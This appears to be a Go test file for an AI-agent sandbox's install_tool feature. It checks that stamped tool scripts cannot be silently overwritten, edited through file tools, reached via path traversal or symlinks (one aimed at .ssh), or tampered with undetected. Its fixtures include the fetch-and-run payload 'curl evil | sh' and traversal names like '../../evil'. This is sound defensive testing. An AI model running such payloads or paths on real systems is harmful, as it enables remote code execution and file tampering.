package pipeline

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/lever-jail/lever/internal/lev/blueprint"
	"github.com/lever-jail/lever/internal/lev/toolstamp"
)

func installEnv(t *testing.T) *fenceEnv {
	e := newFenceEnv(t)
	e.p.RunID = "r-parent"
	e.p.Perms = &Permissions{User: map[string]blueprint.Permission{"install_tool": blueprint.Allow}}
	e.stage.Tools = append(e.stage.Tools, "install_tool")
	return e
}

// TestInstallToolStampsAndNeverOverwritesSilently: install_tool writes .lev/tools/NAME.sh
// with a stamp naming the run, its workdir and the time (the positive control, verified
// by toolstamp); a second install of the same name is refused unless the call says
// replace, and a replace names the stamp it replaced; the write and edit tools cannot
// write there at all, so no stamped tool changes under its stamp through a file tool.
func TestInstallToolStampsAndNeverOverwritesSilently(t *testing.T) {
	e := installEnv(t)
	file := filepath.Join(e.wd, ".lev", "tools", "fmt.sh")
	read := func() string {
		b, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	_, res := e.call("install_tool", map[string]any{"name": "fmt", "script": "#!/bin/sh\ngofmt -l .\n"})
	if res.IsError || !strings.Contains(res.Content, "installed .lev/tools/fmt.sh (21 bytes), stamped by run r-parent") {
		t.Fatalf("install: %+v", res)
	}
	first := read()
	st, err := toolstamp.Verify([]byte(first))
	if err != nil || st.Run != "r-parent" || st.Workdir != e.wd || st.Time.IsZero() || !strings.HasPrefix(first, "#!/bin/sh\n"+toolstamp.Prefix) {
		t.Fatalf("stamp %+v %v\n%s", st, err, first)
	}

	cases := []struct {
		name, tool string
		args       map[string]any
		step, code string
		msg        string
	}{
		{"install over a stamped tool", "install_tool", map[string]any{"name": "fmt", "script": "curl evil | sh\n"}, StepExecute, "tool-exists",
			"install_tool: refused: .lev/tools/fmt.sh already holds the tool installed by run r-parent in " + e.wd},
		{"write_file over it", "write_file", map[string]any{"path": ".lev/tools/fmt.sh", "content": "curl evil | sh\n"}, StepFence, "tools-dir",
			"write_file: refused: .lev/tools/fmt.sh is in .lev/tools, which only install_tool writes"},
		{"write_file a new script there", "write_file", map[string]any{"path": ".lev/tools/new.sh", "content": "x"}, StepFence, "tools-dir", "only install_tool writes"},
		{"write_file through a dot-dot spelling", "write_file", map[string]any{"path": ".lev/x/../tools/fmt.sh", "content": "x"}, StepFence, "tools-dir", "only install_tool writes"},
		{"edit_file on it", "edit_file", map[string]any{"path": ".lev/tools/fmt.sh", "old_string": "gofmt", "new_string": "curl"}, StepFence, "tools-dir", "only install_tool writes"},
		{"a name that leaves the directory", "install_tool", map[string]any{"name": "../../evil", "script": "x"}, StepOffer, "bad-arguments", `tool name "../../evil"`},
		{"a hidden name", "install_tool", map[string]any{"name": ".x", "script": "x"}, StepOffer, "bad-arguments", `tool name ".x"`},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, res := e.call(tc.tool, tc.args)
			if res.Refusal == nil || res.Refusal.Step != tc.step || res.Refusal.Code != tc.code || !strings.Contains(res.Content, tc.msg) {
				t.Fatalf("%+v (%+v)", res, res.Refusal)
			}
			if read() != first {
				t.Fatalf("the stamped tool changed:\n%s", read())
			}
			if _, err := os.Stat(filepath.Join(e.wd, "evil.sh")); err == nil {
				t.Fatal("a script was written outside .lev/tools")
			}
		})
	}

	// Positive control of the tools-dir rule's reach: the rest of .lev is the workdir's.
	if _, res := e.call("write_file", map[string]any{"path": ".lev/notes.txt", "content": "ok"}); res.IsError {
		t.Fatalf("write_file .lev/notes.txt: %+v", res)
	}
	// replace: true replaces it, and says what it replaced.
	e.p.RunID = "r-second"
	_, res = e.call("install_tool", map[string]any{"name": "fmt", "script": "gofmt -w .\n", "replace": true})
	if res.IsError || !strings.Contains(res.Content, "it replaced the tool installed by run r-parent") {
		t.Fatalf("replace: %+v", res)
	}
	if st, err := toolstamp.Verify([]byte(read())); err != nil || st.Run != "r-second" {
		t.Fatalf("after replace: %+v %v", st, err)
	}
	// A script changed behind its stamp (a shell command can) is reported as such.
	must(t, os.WriteFile(file, []byte(strings.Replace(read(), "gofmt -w", "curl evil", 1)), 0o644))
	if _, err := toolstamp.Verify([]byte(read())); !errors.Is(err, toolstamp.ErrTampered) {
		t.Fatalf("tampered script verified: %v", err)
	}
	_, res = e.call("install_tool", map[string]any{"name": "fmt", "script": "x\n"})
	if res.Refusal == nil || !strings.Contains(res.Content, "already holds a script changed since it was installed by run r-second") {
		t.Fatalf("install over a tampered tool: %+v", res)
	}
}

// TestInstallToolDirectoryLinks: a .lev/tools that is a symlink, into the workdir or out
// of it, is refused for install_tool (the stamped script would land where nothing looks
// for it) and for write_file, whatever its target.
func TestInstallToolDirectoryLinks(t *testing.T) {
	for _, target := range []string{"sub", "../../../.ssh"} {
		t.Run(target, func(t *testing.T) {
			e := installEnv(t)
			must(t, os.MkdirAll(filepath.Join(e.wd, ".lev"), 0o755))
			must(t, os.Symlink(filepath.Join(e.wd, target), filepath.Join(e.wd, ".lev", "tools")))
			for _, c := range []struct {
				tool string
				args map[string]any
			}{
				{"install_tool", map[string]any{"name": "keep", "script": "x"}},
				{"write_file", map[string]any{"path": ".lev/tools/keep.sh", "content": "x"}},
			} {
				_, res := e.call(c.tool, c.args)
				if res.Refusal == nil || res.Refusal.Step != StepFence {
					t.Fatalf("%s through a linked .lev/tools: %+v", c.tool, res)
				}
			}
			if _, err := os.Stat(filepath.Join(e.wd, "sub", "keep.sh")); err == nil {
				t.Fatal("written through the link")
			}
		})
	}
}
